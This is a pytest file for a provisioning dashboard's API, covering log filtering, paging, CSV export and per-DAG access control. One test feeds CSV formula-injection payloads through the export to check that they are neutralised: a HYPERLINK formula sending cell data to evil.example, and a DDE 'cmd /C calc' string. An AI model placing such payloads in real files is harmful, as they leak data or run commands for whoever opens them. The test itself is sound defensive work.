"""The Provisioning page's API in-process: ``create_app`` on a stand-in host (no Airflow), app
configs in a folder of the test's own, and a real SQLite state store filled through the store's
API as cycles fill it. The browser test (test_provisioning_page.py) covers Airflow's side."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from collections import defaultdict
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

import pytest
import yaml
from fastapi import HTTPException, Request
from fastapi.testclient import TestClient

from provisioning.engine.outbox import Outcome
from provisioning.engine.plan import PlannedAction
from provisioning.engine.vocabulary import Action, LogStatus, ObjectType, OutboxStatus
from provisioning.glue.ui.app import create_app
from provisioning.state import StateStore
from provisioning.state.schema import upgrade as upgrade_schema
from tests.conftest import demo_config

HELD = "1 account removal(s) held (threshold 0)"


@dataclass
class StandInHost:
    """The page's host without Airflow: everyone is signed in unless ``refuse``, as the user named
    by the ``X-User`` header; ``grants``: user -> the DAG ids they may read (others read all)."""

    state_url: str
    paused_dags: dict[str, bool] = field(default_factory=dict)
    refuse: bool = False
    grants: dict[str, set[str]] = field(default_factory=dict)

    async def authenticate(self, request: Request) -> None:
        if self.refuse:
            raise HTTPException(401, "Not authenticated")
        request.state.user = request.headers.get("X-User", "admin")

    def readable_dag_ids(self, user: str, dag_ids: set[str]) -> set[str]:
        return dag_ids & self.grants[user] if user in self.grants else dag_ids

    def paused(self) -> dict[str, bool]:
        return self.paused_dags

    def run_url(self, dag_id: str, run_id: str) -> str:
        return f"https://airflow.test/dags/{dag_id}/runs/{run_id}"

    def state_store_url(self, conn_id: str) -> str:
        assert conn_id == "page_state"
        return self.state_url


def user(name: str, action: Action = Action.CREATE, target: str | None = None) -> PlannedAction:
    return PlannedAction(
        action=action,
        source_id=f"id-{name}",
        display=f"{name}@contoso.example",
        target_id=target,
        payload={"userName": f"{name}@contoso.example"},
        attributes={"userName": f"{name}@contoso.example", "title": "Engineer"},
        active=action != Action.DISABLE,
        modified=[{"path": "title", "old": None, "new": "Engineer"}],
    )


def run_cycle(store: StateStore, app: str, cycle_id: str, actions, outcomes, staged=frozenset(), skips=()):
    """What a cycle writes, through the store's API: plan, in-flight marks, outcomes, skips, and
    the summary its report counts from the outbox."""
    store.start_cycle(app, cycle_id)
    store.write_plan(app, cycle_id, actions, staged, HELD if staged else None)
    rows = {r.change_id: r for r in store.open_actions(app, cycle_id)}
    store.mark_in_flight(list(rows))
    store.record_outcomes(app, cycle_id, rows, outcomes(rows), endpoint="https://app.test/scim")
    store.record_skips(app, cycle_id, skips)
    counts: dict = defaultdict(lambda: defaultdict(dict))
    for (object_type, action, status), n in store.outbox_counts(app, cycle_id).items():
        counts[object_type][action][status] = n
    status = "staged" if staged else "succeeded"
    store.finish_cycle(app, cycle_id, status, {"actions": counts, "status": status})


def by_display(rows, name: str):
    (row,) = [r for r in rows.values() if r.display.startswith(name)]
    return row


@pytest.fixture
def page(tmp_path):
    """wiki: two cycles (creates, a failure, a skip; then a held disable); crm: quarantined, with
    120 log rows; broken: a config that does not load."""
    apps = tmp_path / "apps"
    apps.mkdir()
    for name, demo in (("wiki", "demo_wiki"), ("crm", "demo_crm")):
        config = {**demo_config(demo, name), "state_conn_id": "page_state"}
        (apps / f"{name}.yaml").write_text(yaml.safe_dump(config, sort_keys=False))
    broken = {**demo_config("demo_wiki", "broken"), "log_retention_days": 0}
    (apps / "broken.yaml").write_text(yaml.safe_dump(broken, sort_keys=False))

    store = StateStore(f"sqlite:///{tmp_path / 'state.db'}")
    upgrade_schema(store.engine)

    def first(rows):
        ann, bob, cid = (by_display(rows, n) for n in ("ann", "bob", "cid"))
        return [
            Outcome(change_id=ann.change_id, status=OutboxStatus.SUCCEEDED, target_id="app-ann"),
            Outcome(
                change_id=bob.change_id,
                status=OutboxStatus.FAILED,
                error_code="400:invalidValue",
                error_message="title is not allowed",
            ),
            Outcome(change_id=cid.change_id, status=OutboxStatus.SUCCEEDED, target_id="app-cid"),
        ]

    skip = [("id-dan", "dan@contoso.example", "MissingValue", "no value for userName")]
    run_cycle(store, "wiki", "c1", [user("ann"), user("bob"), user("cid")], first, skips=skip)
    cid_off = user("cid", Action.DISABLE, target="app-cid")
    store.holds.sync(
        "wiki", "c2", {(ObjectType.USER, "id-cid", Action.DISABLE, "")}, HELD, {ObjectType.USER: 1}
    )
    run_cycle(store, "wiki", "c2", [cid_off], lambda rows: [], staged=frozenset({cid_off.change_id}))

    store.start_cycle("crm", "k1")
    changed = [{"path": "title", "old": "A", "new": "B"}]
    rows = [
        {"object_type": "user", "source_id": f"u{i:03d}", "source_display": f"crm{i:03d}@contoso.example"}
        for i in range(120)
    ]
    store.add_log_rows(
        "crm",
        "k1",
        [{**r, "action": "update", "status": "success", "modified_properties": changed} for r in rows],
    )
    store.finish_cycle("crm", "k1", "succeeded", {"actions": {"user": {"update": {"succeeded": 120}}}})
    done, running = (
        store.leases.try_acquire_partition("crm", "k1", i, 2, timedelta(minutes=5)) for i in (0, 1)
    )
    store.leases.finish_partition(done, "succeeded", {"attempted": 70, "succeeded": 69, "failed": 1})
    store.leases.record_progress(running, 50, 20, 0)
    retry_at = datetime.now(UTC) + timedelta(hours=1)
    store.update_app_status("crm", quarantined=True, quarantine_reason="401: bad token", retry_at=retry_at)

    host = StandInHost(state_url=f"sqlite:///{tmp_path / 'state.db'}")
    return TestClient(create_app(host, apps)), host


def test_apps_lists_each_app_with_its_last_cycle_counts_and_hold(page):
    client, _ = page
    crm, wiki = client.get("/api/apps").json()
    assert wiki["app"] == "wiki" and wiki["dag_id"] == "provision_wiki" and wiki["state"] == "active"
    last = wiki["last_cycle"]
    assert last["cycle_id"] == "c2" and last["status"] == "staged"
    assert last["actions"] == {"user": {"disable": {"staged": 1}}}
    assert last["run_url"] == "https://airflow.test/dags/provision_wiki/runs/c2"
    assert last["duration_seconds"] >= 0
    assert (wiki["staged"], wiki["in_escrow"], wiki["linked"]) == (1, 1, 2)
    assert wiki["hold"]["cycle_id"] == "c2" and wiki["hold"]["reason"] == HELD
    assert crm["state"] == "quarantined" and crm["quarantine_reason"] == "401: bad token"
    assert crm["retry_at"] is not None and crm["hold"] is None
    assert crm["last_cycle"]["actions"] == {"user": {"update": {"succeeded": 120}}}


def test_a_partitioned_apply_shows_each_partitions_progress(page):
    client, _ = page
    crm, wiki = client.get("/api/apps").json()
    assert crm["last_cycle"]["partitions"] == [
        {"partition": 0, "status": "succeeded", "attempted": 70, "succeeded": 69, "failed": 1},
        {"partition": 1, "status": "running", "attempted": 50, "succeeded": 20, "failed": 0},
    ]
    assert wiki["last_cycle"]["partitions"] == []


def test_a_paused_dag_shows_as_paused(page):
    client, host = page
    host.paused_dags["provision_wiki"] = True
    states = {a["app"]: a["state"] for a in client.get("/api/apps").json()}
    assert states == {"crm": "quarantined", "wiki": "paused"}


def test_a_broken_config_is_shown_with_its_file_and_field(page):
    client, _ = page
    (broken,) = client.get("/api/config-errors").json()
    assert broken["app"] == "broken" and broken["file"].endswith("broken.yaml")
    assert [p["field"] for p in broken["problems"]] == ["log_retention_days"]
    assert "greater than or equal to 1" in broken["problems"][0]["message"]
    assert broken["file"] in broken["message"] and "log_retention_days" in broken["message"]
    refused = client.get("/api/log", params={"app": "broken"})
    assert refused.status_code == 409
    assert "broken.yaml" in refused.json()["detail"] and "log_retention_days" in refused.json()["detail"]
    assert client.get("/api/log", params={"app": "nobody"}).status_code == 404


def test_the_log_filters_by_user_action_status_cycle_and_time(page):
    client, _ = page

    def search(**params):
        return client.get("/api/log", params={"app": "wiki", **params}).json()["rows"]

    rows = search()
    assert [(r["source_display"], r["action"], r["status"]) for r in rows] == [
        ("cid@contoso.example", "disable", "staged"),
        ("dan@contoso.example", "skip", "skipped"),
        ("cid@contoso.example", "create", "success"),
        ("bob@contoso.example", "create", "failure"),
        ("ann@contoso.example", "create", "success"),
    ]
    (bob,) = search(action="create", status="failure")
    assert bob["error_code"] == "400:invalidValue" and bob["error_message"] == "title is not allowed"
    assert "escrow: failure 1" in bob["detail"]
    assert bob["run_url"] == "https://airflow.test/dags/provision_wiki/runs/c1"
    assert [r["source_id"] for r in search(user="ann@")] == ["id-ann"]
    assert [r["source_display"] for r in search(user="app-ann")] == ["ann@contoso.example"]
    assert [r["action"] for r in search(user="id-cid")] == ["disable", "create"]
    assert [r["action"] for r in search(cycle="c2")] == ["disable"]
    assert search(user="50%") == []  # a wildcard is a character, not a pattern
    (ann,) = search(user="ann")
    assert ann["modified_properties"] == [{"path": "title", "old": None, "new": "Engineer"}]
    when = datetime.fromisoformat(ann["time"])
    assert when.tzinfo is not None
    assert len(search(since=(when - timedelta(minutes=5)).isoformat())) == 5
    assert search(until=(when - timedelta(minutes=5)).isoformat()) == []
    everyone = client.get("/api/log", params={"status": "success", "limit": 200}).json()["rows"]
    assert {r["app"] for r in everyone} == {"wiki", "crm"} and len(everyone) == 122


def test_the_log_pages_newest_first_by_cursor(page):
    client, _ = page
    seen, cursor, sizes = [], None, []
    while True:
        params = {"app": "crm", **({"before_id": cursor} if cursor else {})}
        answer = client.get("/api/log", params=params).json()
        sizes.append(len(answer["rows"]))
        seen += [r["id"] for r in answer["rows"]]
        cursor = answer["next_before_id"]
        if cursor is None:
            break
    assert sizes == [50, 50, 20]
    assert seen == sorted(seen, reverse=True) and len(set(seen)) == 120
    assert client.get("/api/log", params={"limit": 201}).status_code == 422


def test_csv_export_has_every_matching_row(page):
    client, _ = page
    answer = client.get("/api/log.csv", params={"app": "wiki", "action": "create"})
    assert answer.headers["content-type"].startswith("text/csv")
    assert 'filename="provisioning-log-wiki.csv"' in answer.headers["content-disposition"]
    table = list(csv.DictReader(io.StringIO(answer.text)))
    assert [r["source_display"] for r in table] == [
        "cid@contoso.example",
        "bob@contoso.example",
        "ann@contoso.example",
    ]
    assert json.loads(table[2]["modified_properties"]) == [{"path": "title", "old": None, "new": "Engineer"}]
    assert table[1]["status"] == "failure" and table[1]["error_code"] == "400:invalidValue"
    everything = client.get("/api/log.csv").text.strip().splitlines()
    assert everything[0].startswith("time,app,cycle_id") and len(everything) == 1 + 5 + 120


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tx",
        "\r=1",
    ],
)
def test_csv_cells_a_spreadsheet_would_evaluate_are_made_text(page, text):
    """Names, ids and messages come from the directory and the apps: a cell that starts like a
    formula is exported with a leading apostrophe, everything else as it is."""
    client, host = page
    store = StateStore(host.state_url)
    store.start_cycle("wiki", "c3")
    row = {"object_type": "user", "action": "update", "status": "failure", "source_id": text}
    store.add_log_rows(
        "wiki",
        "c3",
        [{**row, "source_display": text, "target_id": text, "error_code": "400", "error_message": text}],
    )
    table = list(csv.DictReader(io.StringIO(client.get("/api/log.csv", params={"app": "wiki"}).text)))
    hostile = next(r for r in table if r["cycle_id"] == "c3")
    for column in ("source_id", "source_display", "target_id", "error_message"):
        assert hostile[column] == f"'{text}", column
    assert hostile["error_code"] == "400" and hostile["action"] == "update"
    assert {r["source_display"] for r in table if r["cycle_id"] == "c1"} >= {"ann@contoso.example"}


def test_a_user_sees_only_the_apps_whose_dags_they_may_read(page):
    """The auth manager decides per DAG: a reader of provision_crm alone gets crm on every
    endpoint, never a row, a name or a count of wiki (nor of the broken config), and 403 when
    asking for wiki by name."""
    client, host = page
    host.grants["crm-reader"] = {"provision_crm"}
    reader = {"X-User": "crm-reader"}
    (crm,) = client.get("/api/apps", headers=reader).json()
    assert crm["app"] == "crm"
    assert client.get("/api/config-errors", headers=reader).json() == []
    rows = client.get("/api/log", params={"limit": 200}, headers=reader).json()["rows"]
    assert len(rows) == 120 and {r["app"] for r in rows} == {"crm"}
    table = list(csv.DictReader(io.StringIO(client.get("/api/log.csv", headers=reader).text)))
    assert len(table) == 120 and {r["app"] for r in table} == {"crm"}
    for path in ("/api/apps", "/api/config-errors", "/api/log", "/api/log.csv"):
        shown = client.get(path, headers=reader).text
        assert "wiki" not in shown and "broken" not in shown, path
    for path, params in (
        ("/api/log", {"app": "wiki"}),
        ("/api/log.csv", {"app": "wiki"}),
        ("/api/cycles", {"app": "wiki"}),
        ("/api/log", {"app": "broken"}),
    ):
        refused = client.get(path, params=params, headers=reader)
        assert refused.status_code == 403, path
        assert refused.json()["detail"] == f"you may not read app {params['app']!r} (its DAG's permissions)"
    assert client.get("/api/log", params={"app": "nope"}, headers=reader).status_code == 404
    # the same page for someone who may read everything
    assert {a["app"] for a in client.get("/api/apps").json()} == {"crm", "wiki"}
    assert [b["app"] for b in client.get("/api/config-errors").json()] == ["broken"]


def test_the_chart_sums_each_cycles_actions_per_status(page):
    client, _ = page
    bars = client.get("/api/cycles", params={"app": "wiki"}).json()
    assert [(b["cycle_id"], b["succeeded"], b["failed"], b["staged"]) for b in bars] == [
        ("c1", 2, 1, 0),
        ("c2", 0, 0, 1),
    ]
    assert bars[1]["status"] == "staged" and bars[1]["run_url"].endswith("/runs/c2")
    assert [b["cycle_id"] for b in client.get("/api/cycles", params={"app": "wiki", "limit": 1}).json()] == [
        "c2"
    ]


def test_the_vocabulary_is_the_engines(page):
    client, _ = page
    words = client.get("/api/vocabulary").json()
    assert words["actions"] == [*(a.value for a in Action), "note", "on_demand"]
    assert words["statuses"] == [s.value for s in LogStatus]
    assert words["object_types"] == [t.value for t in ObjectType]
    assert words["lifecycles"] == ["joiner", "mover", "leaver"]


def test_the_page_loads_its_script_and_styles(page):
    client, _ = page
    html = client.get("/").text
    assert 'src="static/page.js"' in html and 'href="static/page.css"' in html
    assert "<option>create</option>" not in html  # the filters come from the vocabulary
    script = client.get("/static/page.js")
    assert script.headers["content-type"].startswith("text/javascript")
    assert 'get("api/vocabulary")' in script.text and 'get("api/config-errors")' in script.text
    assert client.get("/static/page.css").headers["content-type"].startswith("text/css")
    assert client.get("/static/app.py").status_code == 404


def test_every_route_asks_the_host_who_is_signed_in(page):
    client, host = page
    host.refuse = True
    paths = ("/", "/static/page.js", "/api/apps", "/api/config-errors", "/api/vocabulary", "/api/log")
    for path in (*paths, "/api/log.csv", "/api/cycles?app=wiki"):
        assert client.get(path).status_code == 401, path


def test_the_page_imports_nothing_of_airflow():
    """Airflow is behind airflow_host.py, which only the plugin's default host imports."""
    probe = "import sys, provisioning.glue.ui.app; print([m for m in sys.modules if m.startswith('airflow')])"
    found = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, check=True)
    assert found.stdout.strip() == "[]"


def test_the_log_filters_and_exports_joiners_movers_and_leavers(page):
    client, host = page
    store = StateStore(host.state_url)
    store.start_cycle("wiki", "c4")
    rows = [
        {"object_type": "user", "source_id": f"id-{name}", "source_display": name, "status": "success"}
        for name in ("eve", "fay", "gus")
    ]
    store.add_log_rows(
        "wiki",
        "c4",
        [
            {**rows[0], "action": "create", "lifecycle": "joiner"},
            {**rows[1], "action": "update", "lifecycle": "mover"},
            {**rows[2], "action": "disable", "lifecycle": "leaver"},
        ],
    )
    leavers = client.get("/api/log", params={"app": "wiki", "lifecycle": "leaver"}).json()["rows"]
    assert [(r["source_display"], r["lifecycle"]) for r in leavers] == [("gus", "leaver")]
    table = list(csv.DictReader(io.StringIO(client.get("/api/log.csv", params={"cycle": "c4"}).text)))
    assert {r["source_display"]: r["lifecycle"] for r in table} == {
        "eve": "joiner",
        "fay": "mover",
        "gus": "leaver",
    }
